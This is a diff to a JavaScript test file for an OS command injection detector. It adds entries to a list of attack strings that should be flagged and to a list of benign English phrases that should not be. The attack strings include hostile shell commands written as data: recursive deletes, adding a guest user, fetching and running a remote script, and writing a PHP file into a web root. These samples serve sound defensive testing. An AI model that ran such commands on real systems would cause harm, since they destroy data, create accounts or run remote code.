@@ -25,11 +25,11 @@ describe('OS command injection detector', () => {
 
   describe('a sentence that opens with a word that is also a command', () => {
     const attacks = ['find / -name secret files -delete', 'net user guest s3cret /add', 'open https://203.0.113.9/x.sh; sh x.sh',
-      'cat /etc/hosts now', 'find /var/www and more -exec rm {} +'];
+      'cat /etc/hosts now', 'find /var/www and more -exec rm {} +', 'echo hello world > /var/www/x.php', 'cat notes >> ./out.txt'];
     for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
     const benign = ['open https://example.com to continue', "type 'yes' to confirm", 'find /docs for help', 'at https://status.example.com we post updates',
       'start https://app.example.com and sign in', "echo \"hello\" back, don't shout",
-      ';; Everyone is granted permission to copy', ';; see the notes below']; // ';;' is a shell syntax error outside `case`
+      ';; Everyone is granted permission to copy', ';; see the notes below', 'sort by price > 100', 'echo chamber > politics']; // ';;' is a shell syntax error outside `case`
   });
 
   describe('markdown inline code holding one English word', () => {
